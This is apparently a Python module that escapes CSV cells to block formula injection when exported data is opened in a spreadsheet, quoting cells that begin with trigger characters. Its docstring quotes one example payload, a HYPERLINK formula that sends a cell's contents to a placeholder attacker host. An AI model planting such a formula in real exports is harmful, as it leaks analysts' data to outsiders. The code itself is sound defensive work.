"""CSV exports that a spreadsheet cannot turn into formulas (CSV/formula injection).

Partner data is untrusted: a name like ``=HYPERLINK("http://evil/?"&A1)`` or
``@SUM(...)`` in a feed would run as a formula when an analyst opens an exported CSV in
Excel or LibreOffice. Every CSV the hub produces goes through :func:`write_csv` (or
:func:`escape_cell`), which prefixes a cell that starts with a formula trigger with a
single quote, as OWASP recommends; the quote shows as text and the value stays
readable. ``tests/security/test_exports.py`` fails if a module writes CSV without it.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import IO, Any

# Characters that make a spreadsheet treat a cell as a formula (or DDE), including the
# tab and carriage return that some spreadsheets strip before looking.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def escape_cell(value: Any) -> str:
    """The cell as text, with a leading quote if it would start a formula.

    Numbers stay numbers (``-3`` from an int is not escaped); only text is.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS) or text.lstrip(" \t\r\n").startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def write_csv(out: IO[str], header: Sequence[str], rows: Iterable[Sequence[Any]]) -> int:
    """Write an escaped CSV (header and rows) to ``out``; returns the number of rows."""
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([escape_cell(h) for h in header])
    count = 0
    for row in rows:
        writer.writerow([escape_cell(v) for v in row])
        count += 1
    return count


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """The escaped CSV as a string (for HTTP responses)."""
    buf = io.StringIO()
    write_csv(buf, header, rows)
    return buf.getvalue()


class EscapingWriter:
    """A drop-in for ``csv.writer(out)`` whose rows are escaped cell by cell."""

    def __init__(self, out: IO[str], **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([escape_cell(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def escaping_writer(out: IO[str], **kwargs: Any) -> EscapingWriter:
    """``csv.writer`` with every cell passed through :func:`escape_cell`."""
    return EscapingWriter(out, **kwargs)
